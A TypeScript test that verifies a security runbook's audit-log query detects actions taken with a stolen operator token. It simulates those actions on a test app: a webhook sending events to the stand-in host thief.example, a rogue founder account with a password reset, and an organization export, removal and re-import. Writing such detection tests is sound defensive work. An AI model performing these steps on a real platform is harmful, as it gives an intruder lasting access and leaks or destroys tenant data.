import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { test } from 'node:test';
import { createTestApp } from '../../testing/app/app.ts';
import { exportFrom, importInto, operator } from '../../testing/app/cells.ts';
import { createTenant } from '../../testing/app/tenant.ts';

const page = await readFile(join(import.meta.dirname, 'security.md'), 'utf8');
const [, steps = ''] = page.split('### A stolen operator token');
const app = await createTestApp();

/** What grants lasting access, discloses or destroys data. */
async function useStolenToken(): Promise<void> {
  const { organizationGuid } = await createTenant(app);
  const path = `/organizations/${organizationGuid}`;
  const hook = { type: 'webhook', name: 'Hook', url: 'https://thief.example/', environment: 'sandbox' };
  assert.equal((await app.operate('POST', `${path}/subscriptions`, hook)).status, 201);
  const member = { email: 'thief@partner.example', role: 'founder' };
  const { body } = await app.operate('POST', `${path}/members`, member);
  assert.equal((await app.operate('POST', `/members/${body.guid}/password_reset`, {})).status, 200);
  const file = await exportFrom(app, organizationGuid);
  await app.transfers.remove(operator, organizationGuid);
  await importInto(app, file);
}

test('docs/operators/security.md: the command after the theft of an operator token finds every such action', async () => {
  const [, actions = ''] = /--action (\S+)/.exec(steps) ?? [];
  await useStolenToken();
  const { body } = await app.operate('GET', `/audit_records?per_page=100&action=${actions}`);
  const found = new Set((body.objects as { action: string }[]).map(({ action }) => action));
  assert.deepEqual([...found].toSorted(), actions.split(',').toSorted());
  for (const verb of ['export', 'import', 'remove']) assert.ok(found.has(`organization.${verb}`), verb);
});
